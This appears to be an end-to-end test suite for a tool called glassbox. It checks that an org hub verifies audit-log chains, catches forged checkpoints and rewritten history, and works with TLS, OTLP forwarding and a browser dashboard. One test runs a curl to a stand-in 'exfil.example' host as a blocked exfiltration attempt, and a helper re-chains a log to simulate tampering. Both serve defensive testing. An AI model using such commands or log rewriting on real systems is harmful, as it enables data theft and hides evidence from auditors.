/**
 * The org hub on a real PostgreSQL: segments of real audit chains are verified before they are
 * kept (edits, re-chaining, forged and re-keyed checkpoints refused); the real `glassbox hub`
 * and `glassbox push` CLIs ship real box sessions, as root and as an unprivileged user; a
 * machine that rewrites its log after a push is caught and marked; TLS; OTLP forwarding to a
 * real HTTP collector; the dashboard API filters across machines.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { createHash, generateKeyPairSync, sign } from 'node:crypto';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import pg from 'pg';
import { AuditStore, CHECKPOINT_COLUMNS, type Checkpoint, entryHash } from '../src/audit/store.js';
import { canonicalJson } from '../src/policy/load.js';
import { EMPTY_WITNESS, type PushedEntry, type PushRequest, SegmentError, verifySegment } from '../src/hub/segment.js';
import { PUSH_ENTRY_ROWS } from '../src/hub/client.js';
import { HubStore } from '../src/hub/store.js';
import { actorEnv, actors, asActor, glassbox, inBox, REPO, startServing, type Actor } from './helpers.js';
import { launchChromium, startPostgres, type Postgres } from './services.js';

function storeWith(n: number): AuditStore {
  const store = new AuditStore(join(mkdtempSync(join(tmpdir(), 'gb-hubseg-')), 'audit.db'));
  for (let i = 0; i < n; i++) store.append(`s${i % 3}`, i % 4 ? 'network' : 'http', { i, host: `h${i}.example`, decision: i % 5 ? 'allow' : 'deny' });
  store.checkpoint();
  return store;
}

function segment(store: AuditStore, from: number, to?: number): PushRequest {
  const cps = store.db.prepare(`SELECT ${CHECKPOINT_COLUMNS} FROM checkpoints WHERE size > ? ORDER BY size`).all(from) as Checkpoint[];
  const upto = cps.filter((c) => to === undefined || c.size <= to);
  const end = upto[upto.length - 1]!.size;
  return { entries: store.db.prepare(PUSH_ENTRY_ROWS).all(from, end) as PushedEntry[], checkpoints: upto, head: store.latestCheckpoint() ?? null };
}

function refuses(fn: () => unknown, pattern: RegExp, tampered: boolean): void {
  assert.throws(fn, (err: unknown) => err instanceof SegmentError && pattern.test(err.message) && err.tampered === tampered, String(pattern));
}

/** Rewrites entry `seq` and re-chains everything after it, as someone holding the machine would. */
function rewriteFrom(db: AuditStore['db'], seq: number): void {
  const rows = db.prepare('SELECT seq, ts, session, kind, body_hash AS bodyHash, body FROM entries WHERE seq >= ? ORDER BY seq').all(seq) as { seq: number; ts: string; session: string; kind: string; bodyHash: string; body: string | null }[];
  let prev = (db.prepare('SELECT entry_hash AS h FROM entries WHERE seq = ?').get(seq - 1) as { h: string }).h;
  const update = db.prepare('UPDATE entries SET body = ?, body_hash = ?, prev_hash = ?, entry_hash = ? WHERE seq = ?');
  for (const r of rows) {
    let body = r.body;
    let bodyHash = r.bodyHash;
    if (r.seq === seq && body !== null) {
      body = canonicalJson({ ...(JSON.parse(body) as object), rewritten: true });
      bodyHash = createHash('sha256').update(body).digest('hex');
    }
    const h = entryHash(r.seq, r.ts, r.session, r.kind, bodyHash, prev);
    update.run(body, bodyHash, prev, h, r.seq);
    prev = h;
  }
}

describe('hub segment verification (real chains)', () => {
  it('accepts an honest log pushed in pieces and carries the witness across them', () => {
    const store = storeWith(2600);
    const first = verifySegment(EMPTY_WITNESS, segment(store, 0, 1000));
    assert.equal(first.next.size, 1000);
    const second = verifySegment(first.next, segment(store, 1000));
    assert.equal(second.next.size, 2600);
    assert.equal(second.next.checkpoint!.size, 2600);
    assert.ok(second.next.anchorKey && second.next.nextKey);
    // Nothing new: the head alone is compared with the witness.
    assert.equal(verifySegment(second.next, { entries: [], checkpoints: [], head: store.latestCheckpoint()! }).next.size, 2600);
    store.close();
  });

  it('refuses edits, breaks, forgeries, re-keyed checkpoints and rewrites of witnessed history', () => {
    const store = storeWith(1500);
    const honest = segment(store, 0);
    const edit = (f: (s: PushRequest) => void) => {
      const s = structuredClone(honest);
      f(s);
      return s;
    };
    refuses(() => verifySegment(EMPTY_WITNESS, edit((s) => (s.entries[10]!.kind = 'exec'))), /entry 11 was modified/, true);
    refuses(() => verifySegment(EMPTY_WITNESS, edit((s) => (s.entries[20]!.body = s.entries[20]!.body!.replace('h20', 'h99')))), /body of entry 21 was modified/, true);
    refuses(() => verifySegment(EMPTY_WITNESS, edit((s) => s.entries.splice(30, 1))), /not consecutive|chain broken/, false);
    refuses(() => verifySegment(EMPTY_WITNESS, edit((s) => (s.checkpoints[0]!.root = '0'.repeat(64)))), /checkpoint at 1000 entries does not match/, true);
    refuses(() => verifySegment(EMPTY_WITNESS, edit((s) => (s.checkpoints[1]!.signature = s.checkpoints[0]!.signature))), /invalid signature/, true);
    // A checkpoint signed validly, but by a key the previous one did not name.
    const stranger = generateKeyPairSync('ed25519');
    const forged = edit((s) => {
      const cp = s.checkpoints[1]!;
      cp.publicKey = stranger.publicKey.export({ type: 'spki', format: 'pem' }) as string;
      const msg = Buffer.from(`glassbox-checkpoint/v2\n${cp.size}\n${cp.root}\n${cp.ts}\n${cp.nextKey}`);
      cp.signature = sign(null, msg, stranger.privateKey).toString('base64');
    });
    refuses(() => verifySegment(EMPTY_WITNESS, forged), /signed by a key the witnessed checkpoint did not name/, true);
    refuses(() => verifySegment(EMPTY_WITNESS, edit((s) => s.checkpoints.pop())), /ends at entry 1500 but its last checkpoint covers 1000/, false);
    refuses(() => verifySegment(EMPTY_WITNESS, { ...honest, entries: honest.entries.slice(5) }), /starts at entry 6, the hub holds 0/, false);

    const witnessed = verifySegment(EMPTY_WITNESS, segment(store, 0, 1000)).next;
    rewriteFrom(store.db, 700);
    store.close();
    const reopened = new AuditStore(store.path);
    reopened.append('s9', 'network', { after: 'rewrite' });
    reopened.checkpoint();
    refuses(() => verifySegment(witnessed, segment(reopened, 1000)), /history rewritten: entry 1001 does not follow the entry 1000 the hub witnessed/, true);
    refuses(() => verifySegment(witnessed, { entries: [], checkpoints: [], head: { ...witnessed.checkpoint!, size: 900 } }), /truncated or rewritten/, true);
    reopened.close();
  });
});

/** The real CLI as this (root) test process, serving until killed. */
const startCli = (args: string[], env: NodeJS.ProcessEnv) => startServing([process.execPath, join(REPO, 'bin', 'glassbox.js'), ...args], env);

async function api<T>(base: string, token: string, path: string): Promise<T> {
  const res = await fetch(`${base}${path}`, { headers: { authorization: `Bearer ${token}` } });
  const body = (await res.json()) as T;
  assert.equal(res.status, 200, JSON.stringify(body));
  return body;
}

describe('glassbox hub and glassbox push on PostgreSQL', () => {
  let pgs: Postgres;
  let url: string;
  let hub: { child: ChildProcess; line: string };
  let base: string;
  let admin: string;
  let collector: Server;
  const received: { host: string; records: number }[] = [];
  const tokens: Record<string, string> = {};
  const [root, user] = [actors()[0]!, actors().at(-1)!];

  before(async () => {
    pgs = await startPostgres();
    url = await pgs.database('hub_e2e');
    collector = createServer((req, res) => {
      let body = '';
      req.setEncoding('utf8').on('data', (d: string) => (body += d)).on('end', () => {
        const j = JSON.parse(body) as { resourceLogs: { resource: { attributes: { key: string; value: { stringValue?: string } }[] }; scopeLogs: { logRecords: unknown[] }[] }[] };
        for (const r of j.resourceLogs) received.push({ host: r.resource.attributes.find((a) => a.key === 'host.name')!.value.stringValue!, records: r.scopeLogs[0]!.logRecords.length });
        res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
      });
    });
    await new Promise<void>((r) => collector.listen(0, '127.0.0.1', () => r()));
    for (const name of ['laptop-root', 'laptop-user']) {
      const out = await glassbox(root, ['hub', 'token', 'add', name, '--database', url]);
      assert.equal(out.code, 0, out.stderr);
      tokens[name] = out.stdout.trim();
      assert.match(tokens[name]!, /^gbm_[\w-]{43}$/);
    }
    const adminFile = join(mkdtempSync(join(tmpdir(), 'gb-admin-')), 'token');
    admin = 'admin-token-for-the-test-0123456789';
    writeFileSync(adminFile, admin);
    hub = await startCli(['hub', '--database', url, '--listen', '127.0.0.1:0', '--admin-token-file', adminFile, '--otlp-endpoint', `http://127.0.0.1:${(collector.address() as { port: number }).port}`], process.env);
    base = /^glassbox hub: (http:\/\/127\.0\.0\.1:\d+)\/#token=/.exec(hub.line)![1]!;
  });
  after(async () => {
    hub?.child.kill('SIGTERM');
    await new Promise((r) => collector?.close(r));
    pgs?.stop();
  });

  const push = (actor: Actor, name: string, extra: string[] = [], env: Record<string, string> = {}) => glassbox(actor, ['push', '--hub', base, ...extra], { env: { GLASSBOX_HUB_TOKEN: tokens[name]!, ...env } });

  it('ships real box sessions of two machines; the dashboard filters across them', async () => {
    for (const [actor, name] of [
      [root, 'laptop-root'],
      [user, 'laptop-user'],
    ] as const) {
      const run = await inBox(actor, 'echo hello from the box; curl -s --max-time 3 https://exfil.example/ || true');
      assert.equal(run.code, 0, run.stderr);
      const out = await push(actor, name);
      assert.equal(out.code, 0, out.stderr);
      assert.match(out.stdout, new RegExp(`^pushed \\d+ entries in \\d+ batch(es)? as ${name}; the hub holds \\d+\\n$`));
      // Again: nothing new is sent.
      const again = await push(actor, name);
      assert.match(again.stdout, /^pushed 0 entries in 0 batches/);
    }
    const all = await api<{ sessions: { machine: string; user: string; denied: number; status: string }[]; facets: { machine: string[]; user: string[] } }>(base, admin, '/api/sessions');
    assert.deepEqual(all.facets.machine, ['laptop-root', 'laptop-user']);
    assert.ok(all.facets.user.includes(user.username));
    const mine = await api<typeof all>(base, admin, `/api/sessions?machine=laptop-user&user=${user.username}`);
    assert.ok(mine.sessions.length >= 1);
    assert.ok(mine.sessions.every((s) => s.machine === 'laptop-user' && s.user === user.username));
    assert.ok(mine.sessions.some((s) => s.denied >= 1 && s.status === 'ended'), 'the blocked exfil attempt is counted');
    const integrity = await api<{ ok: boolean; machines: { name: string; status: string; size: number }[] }>(base, admin, '/api/integrity');
    assert.equal(integrity.ok, true);
    assert.deepEqual(integrity.machines.map((m) => m.status), ['verified', 'verified']);
    // Without the admin token, nothing.
    assert.equal((await fetch(`${base}/api/sessions`)).status, 401);
    assert.equal((await fetch(`${base}/api/sessions`, { headers: { authorization: `Bearer ${tokens['laptop-root']}` } })).status, 401);
  });

  it('hub verify walks the stored chains again: a row edited in PostgreSQL afterwards is named', async () => {
    const ok = await glassbox(root, ['hub', 'verify', '--database', url]);
    assert.equal(ok.code, 0, ok.stdout + ok.stderr);
    assert.match(ok.stdout, /^laptop-root\s+verified\s+\d+ entries  first key [0-9a-f]{16}$/m);
    assert.match(ok.stdout, /^verified: \d+ entries of 2 machines, \d+ signed checkpoints$/m);
    const db = new pg.Client({ connectionString: url });
    await db.connect();
    try {
      const original = (await db.query("SELECT body FROM entries WHERE machine = 'laptop-root' AND seq = 2")).rows[0] as { body: string };
      await db.query("UPDATE entries SET body = replace(body, '\"', '\" ') WHERE machine = 'laptop-root' AND seq = 2");
      const bad = await glassbox(root, ['hub', 'verify', '--database', url]);
      assert.equal(bad.code, 1, bad.stdout);
      assert.match(bad.stdout, /^laptop-root\s+tampered .*problem: stored at the hub: the body of entry 2 was modified$/m);
      assert.match(bad.stdout, /^laptop-user\s+verified/m);
      assert.match(bad.stdout, /^TAMPERED: 1 machine$/m);
      const shown = await api<{ ok: boolean }>(base, admin, '/api/integrity');
      assert.equal(shown.ok, false);
      // Put it back: the stored chain verifies again, and later tests start from an honest hub.
      await db.query("UPDATE entries SET body = $1 WHERE machine = 'laptop-root' AND seq = 2", [original.body]);
    } finally {
      await db.end();
    }
    const again = await glassbox(root, ['hub', 'verify', '--database', url]);
    assert.equal(again.code, 0, again.stdout);
  });

  it('push --watch keeps shipping: a new session reaches the hub without another command', async () => {
    const argv = asActor(user, actorEnv(user, { GLASSBOX_HUB_TOKEN: tokens['laptop-user']! }), [process.execPath, join(user.repo, 'bin', 'glassbox.js'), 'push', '--hub', base, '--watch', '1']);
    const watcher = spawn(argv[0]!, argv.slice(1), { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    watcher.stdout!.setEncoding('utf8').on('data', (d: string) => (out += d));
    watcher.stderr!.setEncoding('utf8').on('data', (d: string) => (err += d));
    const matching = async () => (await api<{ sessions: unknown[] }>(base, admin, '/api/sessions?machine=laptop-user&q=shipped-by-watch')).sessions.length;
    // The unprivileged user's log lives on between runs of the suite: count what is there already.
    const before = await matching();
    try {
      const run = await inBox(user, 'echo shipped-by-watch');
      assert.equal(run.code, 0, run.stderr);
      let found = false;
      for (let i = 0; i < 100 && !found; i++) {
        found = (await matching()) > before;
        if (!found) await new Promise((r) => setTimeout(r, 200));
      }
      assert.ok(found, `the session reached the hub; push said:\n${out}`);
    } finally {
      watcher.kill('SIGTERM');
    }
    // runuser hands SIGTERM on and then reports it as its own end; glassbox itself stops cleanly.
    const [code, signal] = await new Promise<[number | null, NodeJS.Signals | null]>((r) => watcher.once('exit', (c, sig) => r([c, sig])));
    assert.ok(code === 0 || signal === 'SIGTERM', `exit ${code} ${signal}`);
    assert.doesNotMatch(err, /glassbox/, 'no error from glassbox itself');
    assert.match(out, /pushed [1-9]\d* entries/);
  });

  it('forwards every verified event to an OTLP collector, named by machine', async () => {
    const store = await HubStore.open(url);
    try {
      const machines = await store.machines();
      for (let i = 0; i < 150 && machines.some((m) => received.filter((r) => r.host === m.name).reduce((n, r) => n + r.records, 0) < m.size); i++) {
        await new Promise((r) => setTimeout(r, 100));
        machines.splice(0, machines.length, ...(await store.machines()));
      }
      for (const m of machines) assert.equal(received.filter((r) => r.host === m.name).reduce((n, r) => n + r.records, 0), m.size, m.name);
    } finally {
      await store.close();
    }
  });

  it('a machine that rewrites its log after pushing is refused and marked tampered', async () => {
    const dataHome = mkdtempSync(join(tmpdir(), 'gb-rewriter-'));
    const env = { XDG_DATA_HOME: dataHome };
    const name = 'rewriter';
    const added = await glassbox(root, ['hub', 'token', 'add', name, '--database', url]);
    tokens[name] = added.stdout.trim();
    assert.equal((await inBox(root, 'true', { env })).code, 0);
    assert.equal((await push(root, name, [], env)).code, 0);
    const db = new AuditStore(join(dataHome, 'glassbox', 'audit.db'));
    rewriteFrom(db.db, 2);
    db.close();
    assert.equal((await inBox(root, 'true', { env })).code, 0);
    const out = await push(root, name, [], env);
    assert.equal(out.code, 2);
    assert.match(out.stderr, /^glassbox: the hub refused: history rewritten: entry \d+ does not follow the entry \d+ the hub witnessed\n$/);
    const integrity = await api<{ ok: boolean; problems: string[]; machines: { name: string; status: string }[] }>(base, admin, '/api/integrity');
    assert.equal(integrity.ok, false);
    assert.equal(integrity.machines.find((m) => m.name === name)!.status, 'tampered');
    assert.match(integrity.problems.join('\n'), /rewriter: history rewritten/);
    assert.deepEqual((integrity as unknown as { alerts: { machine: string; problem: string }[] }).alerts.map((a) => a.machine), [name]);
    // It stays refused until someone looks into it.
    const later = await push(root, name, [], env);
    assert.match(later.stderr, /is marked tampered/);
    rmSync(dataHome, { recursive: true, force: true });
  });

  it('the org dashboard in Chromium: filter by machine, open a session, see the tampered machine', async () => {
    const browser = await launchChromium();
    try {
      const page = await browser.newPage({ viewport: { width: 1300, height: 1000 } });
      const errors: string[] = [];
      page.on('pageerror', (e) => errors.push(e.message));
      await page.goto(`${base}/#token=${admin}`);
      await page.locator('#scope', { hasText: 'org hub' }).waitFor();
      await page.locator('select[name="machine"] option[value="laptop-user"]').waitFor({ state: 'attached' });
      await page.selectOption('select[name="machine"]', 'laptop-user');
      // The list is drawn again for the filter: wait for the new one.
      await page.waitForFunction(() => {
        const cells = [...document.querySelectorAll('main table tbody tr td:first-child')].map((td) => td.textContent);
        return location.hash.includes('machine=laptop-user') && cells.length > 0 && cells.every((c) => c === 'laptop-user');
      });
      const machines = await page.locator('tbody tr td:first-child').allInnerTexts();
      assert.ok(machines.length >= 1 && machines.every((m) => m === 'laptop-user'), machines.join(','));
      // The text filter: the session that tried to reach exfil.example.
      await page.fill('input[name="q"]', 'exfil.example');
      await page.press('input[name="q"]', 'Enter');
      await page.waitForFunction(() => location.hash.includes('q=exfil.example'));
      await page.locator('tbody tr a').first().click();
      await page.locator('#session-id').waitFor();
      assert.match(await page.locator('main').innerText(), /laptop-user/);
      assert.match(await page.locator('main').innerText(), /exfil\.example/);
      await page.click('a[data-nav="integrity"]');
      await page.locator('#integrity-verdict', { hasText: 'TAMPERED' }).waitFor();
      assert.match(await page.locator('main').innerText(), /rewriter\s+tampered/);
      assert.match(await page.locator('main').innerText(), /Alerts[\s\S]*rewriter\s+history rewritten/);
      // The approvals link is for machines: the hub has none to answer.
      assert.equal(await page.locator('#nav-approvals').isHidden(), true);
      await page.screenshot({ path: join(tmpdir(), 'glassbox-hub-integrity.png'), fullPage: true });
      assert.deepEqual(errors, []);
    } finally {
      await browser.close();
    }
  });

  it('serves over TLS; push trusts the hub only with --ca', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'gb-tls-'));
    const gen = spawnSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-keyout', join(dir, 'key.pem'), '-out', join(dir, 'cert.pem'), '-days', '2', '-subj', '/CN=glassbox-hub-test', '-addext', 'subjectAltName=IP:127.0.0.1'], { encoding: 'utf8' });
    assert.equal(gen.status, 0, gen.stderr);
    chmodSync(dir, 0o755);
    chmodSync(join(dir, 'cert.pem'), 0o644);
    const tlsHub = await startCli(['hub', '--database', url, '--listen', '127.0.0.1:0', '--tls-cert', join(dir, 'cert.pem'), '--tls-key', join(dir, 'key.pem')], process.env);
    try {
      const tlsBase = /^glassbox hub: (https:\/\/127\.0\.0\.1:\d+)\/#token=/.exec(tlsHub.line)![1]!;
      assert.equal((await inBox(user, 'true')).code, 0);
      const untrusted = await glassbox(user, ['push', '--hub', tlsBase], { env: { GLASSBOX_HUB_TOKEN: tokens['laptop-user']! } });
      assert.equal(untrusted.code, 2);
      assert.match(untrusted.stderr, /TLS certificate .* is not trusted .*; pass the CA that signed it with --ca FILE/);
      const trusted = await glassbox(user, ['push', '--hub', tlsBase, '--ca', join(dir, 'cert.pem')], { env: { GLASSBOX_HUB_TOKEN: tokens['laptop-user']! } });
      assert.equal(trusted.code, 0, trusted.stderr);
      assert.match(trusted.stdout, /^pushed [1-9]\d* entries/);
    } finally {
      tlsHub.child.kill('SIGTERM');
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('bad input is one line: database URL, unreachable hub, missing token, revoked token', async () => {
    const badUrl = await glassbox(root, ['hub', '--database', 'mysql://x']);
    assert.equal(badUrl.stderr, 'glassbox: --database must be a postgres:// URL (e.g. postgres://glassbox@127.0.0.1:5432/glassbox), not "mysql://x"\n');
    const down = await glassbox(root, ['hub', 'token', 'list', '--database', 'postgres://glassbox@127.0.0.1:1/x']);
    assert.match(down.stderr, /^glassbox: cannot reach PostgreSQL at postgres:\/\/…@127\.0\.0\.1:1\/x \(connection refused\); is the server running\?\n$/);
    const noToken = await glassbox(root, ['push', '--hub', base]);
    assert.match(noToken.stderr, /^glassbox: glassbox push needs the machine token/);
    const noHub = await glassbox(root, ['push', '--hub', 'http://127.0.0.1:1'], { env: { GLASSBOX_HUB_TOKEN: 'x' } });
    assert.match(noHub.stderr, /^glassbox: cannot reach the hub at http:\/\/127\.0\.0\.1:1 \(connection refused\)/);
    // A hostile or broken client with a valid token: refused as bad requests, nothing stored, not marked.
    const post = async (body: string) => {
      const res = await fetch(`${base}/api/v1/push`, { method: 'POST', headers: { authorization: `Bearer ${tokens['laptop-user']}`, 'content-type': 'application/json' }, body });
      return [res.status, ((await res.json()) as { error: string }).error] as const;
    };
    assert.deepEqual(await post('{not json'), [400, 'request body is not JSON']);
    assert.deepEqual(await post('[]'), [400, 'a push is {entries: [...], checkpoints: [...], head}']);
    assert.deepEqual(await post('{"entries":[null],"checkpoints":[]}'), [400, 'an entry in the push is not an object']);
    assert.deepEqual(await post('{"entries":[],"checkpoints":[{"size":"x"}]}'), [400, 'a checkpoint in the push is malformed (size, root, ts, keyId, signature, publicKey, nextKey)']);
    const [status, error] = await post('{"entries":[{"seq":1}],"checkpoints":[],"head":null}');
    assert.equal(status, 409);
    assert.match(error, /must end on a signed checkpoint/);
    const machines = (await api<{ machines: { name: string; status: string }[] }>(base, admin, '/api/integrity')).machines;
    assert.equal(machines.find((m) => m.name === 'laptop-user')!.status, 'verified');
    assert.equal((await glassbox(root, ['hub', 'token', 'revoke', 'laptop-root', '--database', url])).code, 0);
    const revoked = await push(root, 'laptop-root');
    assert.match(revoked.stderr, /^glassbox: the hub refused: unknown or revoked machine token/);
    const dup = await glassbox(root, ['hub', 'token', 'add', 'laptop-user', '--database', url]);
    assert.match(dup.stderr, /^glassbox: machine laptop-user is already registered/);
  });
});
